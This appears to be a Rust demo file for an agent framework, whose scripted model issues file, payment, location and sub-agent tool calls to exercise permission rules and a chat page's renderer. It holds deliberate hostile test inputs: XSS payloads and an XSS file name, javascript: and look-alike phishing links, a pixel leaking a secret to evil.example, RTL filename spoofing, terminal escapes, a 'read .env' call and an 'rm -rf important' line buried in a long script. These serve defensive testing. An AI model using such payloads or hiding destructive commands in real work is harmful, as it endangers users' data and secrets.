//! The assistant: its tools and its permission stack are those of the first example, and beside them a tool that the page
//! executes and an agent below this one.

use std::borrow::Cow;
use std::time::Duration;

use countersign::message::{RequestPart, ReturnKind};
use countersign::model::{ModelRequest, ModelResponse};
use countersign::toolset::ExternalToolset;
use countersign::{
    Agent, BoxError, Decision, FunctionToolset, Message, Model, RunContext, ToolCall,
    ToolDefinition, ToolMiddleware, Tools,
};
use countersign_rules::Rules;
use serde_json::{Value, json};

use crate::assistant::Tidy;
use crate::assistant::real::{self, Real};
use crate::payments;
use crate::spoken::since_the_user_spoke;
use crate::stack;

/// The lease of a chat, which blocks it when the server was killed in the middle of a response.
pub(crate) const LEASE: Duration = Duration::from_secs(10);

pub(crate) fn agent(model: Option<Real>) -> Agent {
    let cleaner = Agent::new(Cleaner, stack::stack(RulesOfTheChat, false, None));
    let cleaner = cleaner.as_tool("cleaner", "Deletes what it is told to delete");
    let location = json!({"type": "object", "properties": {}});
    let location =
        ToolDefinition::new("get_location", location).with_description("Where the user is");
    let tools = Tools::combined([
        stack::stack(RulesOfTheChat, false, None),
        FunctionToolset::new().tool(cleaner).into(),
        ExternalToolset::new("browser", [location]).into(),
        FunctionToolset::new().tool(payments::pay_invoices()).into(),
    ]);
    match model {
        Some(model) => real::agent(model, tools),
        None => Agent::new(Demo, tools),
    }
}

/// The rules for the folder of the chat, which each run has as a dependency.
struct RulesOfTheChat;

impl ToolMiddleware for RulesOfTheChat {
    fn name(&self) -> Cow<'static, str> {
        "rules".into()
    }

    async fn before_tool_call(&self, cx: &RunContext, call: &ToolCall) -> Decision {
        match cx.deps::<Rules>() {
            Ok(rules) => rules.before_tool_call(cx, call).await,
            // Denies, and tells the host why.
            Err(error) => Err::<Decision, _>(error).into(),
        }
    }
}

/// A scripted model. Its only state is the conversation.
struct Demo;

impl Model for Demo {
    async fn respond(&self, request: ModelRequest) -> Result<ModelResponse, BoxError> {
        let (said, since) = since_the_user_spoke(request.messages());
        let (text, calls) = match said.trim() {
            "clean up" => return Tidy.respond(request).await,
            "insist on deleting a.txt" if responses(since) < 3 => {
                ("I delete a.txt.".to_owned(), vec![delete("a.txt")])
            }
            _ if since.iter().any(|it| matches!(it, Message::Response { .. })) => {
                (sums_up(since), Vec::new())
            }
            "tell me a story" => (story(&request).await, Vec::new()),
            said => match calls_for(said) {
                Some((text, calls)) => (text.to_owned(), calls),
                None => (HELP.to_owned(), Vec::new()),
            },
        };
        request.text_delta(&text);
        Ok(ModelResponse::calls(calls).saying(text))
    }
}

/// The model's text and calls in response to a sentence.
fn calls_for(said: &str) -> Option<(&'static str, Vec<ToolCall>)> {
    let write = |path: &str, text: String| call("write_file", json!({"path": path, "text": text}));
    let moves = |to: &str| call("move_file", json!({"from": "a.txt", "to": to}));
    let read = |path: &str| call("read_file", json!({"path": path}));
    let lines = |many: usize| (1..=many).map(|n| format!("line {n}\n")).collect::<String>();
    Some(match said {
        "delete a.txt" => ("I delete a.txt.", vec![delete("a.txt")]),
        "delete a.txt and b.txt" => ("I delete both.", vec![delete("a.txt"), delete("b.txt")]),
        "delete a.txt three times" => ("I delete it, to be sure.", thrice(|| delete("a.txt"))),
        "delete twelve files" => {
            ("I delete them.", (1..=12).map(|n| delete(&format!("old-{n}.txt"))).collect())
        }
        "move a.txt onto b.txt" => ("I move it.", vec![moves("b.txt")]),
        "move a.txt away three times" => ("I move it, to be sure.", thrice(|| moves("away.txt"))),
        "read .env" => ("I look into .env.", vec![read(".env")]),
        "read everything again and again" => {
            let files = ["a.txt", "b.txt"].into_iter().cycle().take(8);
            ("I read everything.", files.map(read).chain([delete("a.txt")]).collect())
        }
        "read three files and delete a.txt" => {
            let files = ["a.txt", "b.txt", "todo.txt"].map(read).into_iter();
            ("I read them first.", files.chain([delete("a.txt")]).collect())
        }
        "change todo.txt" => {
            let text = "- rotate the logs, weekly\n- thumbnails of very wide photos are blurred\n- write to Ben\n";
            ("I change it.", vec![write("todo.txt", text.to_owned())])
        }
        "write two thousand lines twice" => (
            "I write them.",
            vec![write("long.txt", lines(2_100)), write("long.txt", lines(2_100)), delete("b.txt")],
        ),
        "pay the invoices" => ("I pay them.", vec![call("pay_invoices", json!({"month": "May"}))]),
        "where am i" => ("I ask your browser.", vec![call("get_location", json!({}))]),
        "let the cleaner delete a.txt" => {
            ("I pass it on.", vec![call("cleaner", json!({"prompt": "delete a.txt"}))])
        }
        "write something hostile" => ("I write it.", vec![hostile()]),
        "write a long script and delete a.txt" => {
            ("I do both.", vec![long_script(), delete("a.txt")])
        }
        "explain it with a table" => (MARKDOWN, Vec::new()),
        _ => return None,
    })
}

/// A text with Markdown that a page renders, and markup, script addresses and images that it must not render.
const MARKDOWN: &str = "## What I found\n\nThere are **two** files, `a.txt` and *b.txt*:\n\n\
| file | lines |\n|---|---:|\n| a.txt | 1 |\n| b.txt | 2 |\n\n\
1. read them\n2. keep them\n   - both\n\n> as it was said\n\n```sh\nrm -i a.txt\n```\n\n\
See [the manual](https://docs.example.com/files), [your bank](https://bank.example@evil.example/login), \
[this](javascript:alert(1)) and [here](/api/chat). ![a chart](https://evil.example/pixel.png?secret=1)\n\n\
<script>alert('run')</script> <b onclick=\"alert(2)\">bold</b> \u{202e}txt.exe\n\n\
<iframe src=\"https://evil.example\"></iframe>";

/// Three equal calls, each with an id of its own.
fn thrice(call: impl Fn() -> ToolCall) -> Vec<ToolCall> {
    vec![call(), call(), call()]
}

fn delete(path: &str) -> ToolCall {
    call("delete_file", json!({"path": path}))
}

/// The number of the model's responses since the user's last message.
fn responses(since: &[Message]) -> usize {
    since.iter().filter(|message| matches!(message, Message::Response { .. })).count()
}

const HELP: &str = "I am a script, and understand a few sentences: `clean up`, `delete a.txt`, `delete a.txt and \
b.txt`, `delete a.txt three times`, `delete twelve files`, `move a.txt onto b.txt`, `move a.txt away three times`, \
`read .env`, `read everything again and again`, `read three files and delete a.txt`, `change todo.txt`, \
`write two thousand lines twice`, `pay the invoices`, `where am i`, `let the cleaner delete a.txt`, \
`write something hostile`, `write a long script and delete a.txt`, `insist on deleting a.txt`, \
`explain it with a table`, `tell me a story`.";

/// Markup that a page must show as text.
fn hostile() -> ToolCall {
    let text = "<script>alert('run')</script> <b>bold</b> [link](javascript:alert(1))\n\
                \u{202e}gpj.exe \u{200b}\u{1b}[2J looks like nothing";
    call("write_file", json!({"path": "<img src=x onerror=alert(1)>.txt", "text": text}))
}

/// A text that is too long to be shown at first, with something in the middle of it.
fn long_script() -> ToolCall {
    let lines = |from: usize| (from..from + 200).map(|n| format!("echo step {n}\n"));
    let text: String =
        lines(1).chain(["rm -rf important\n".to_owned()]).chain(lines(201)).collect();
    call("write_file", json!({"path": "steps.sh", "text": text}))
}

/// A text that takes some seconds.
async fn story(request: &ModelRequest) -> String {
    let words = (1..=60).map(|word| format!("word{word}, ")).chain(["end.".to_owned()]);
    let mut told = String::new();
    for word in words {
        request.text_delta(&word);
        told += &word;
        tokio::time::sleep(Duration::from_millis(60)).await;
    }
    told
}

/// The results of the model's calls since the user's last message.
fn sums_up(since: &[Message]) -> String {
    let parts = since.iter().flat_map(|message| match message {
        Message::Request { parts } => parts.as_slice(),
        Message::Response { .. } => &[],
    });
    let told = parts.filter_map(|part| match part {
        RequestPart::ToolReturn { tool_name, content, outcome, .. } => {
            let text = content.as_str().map_or_else(|| content.to_string(), str::to_owned);
            Some(match outcome {
                ReturnKind::Success => format!("{tool_name}: {text}."),
                ReturnKind::Denied => format!("{tool_name} was denied: {text}"),
                _ => format!("{tool_name} did not work: {text}."),
            })
        }
        _ => None,
    });
    told.collect::<Vec<_>>().join("\n")
}

/// Deletes what it is told to delete.
struct Cleaner;

impl Model for Cleaner {
    async fn respond(&self, request: ModelRequest) -> Result<ModelResponse, BoxError> {
        let (said, since) = since_the_user_spoke(request.messages());
        if since.iter().any(|it| matches!(it, Message::Response { .. })) {
            return Ok(ModelResponse::text(sums_up(since)));
        }
        let path = said.strip_prefix("delete ").unwrap_or_default();
        Ok(ModelResponse::calls([call("delete_file", json!({"path": path}))]))
    }
}

/// Every id is new.
fn call(tool: &str, args: Value) -> ToolCall {
    ToolCall::new(format!("call_{}", uuid::Uuid::now_v7().simple()), tool, args)
}
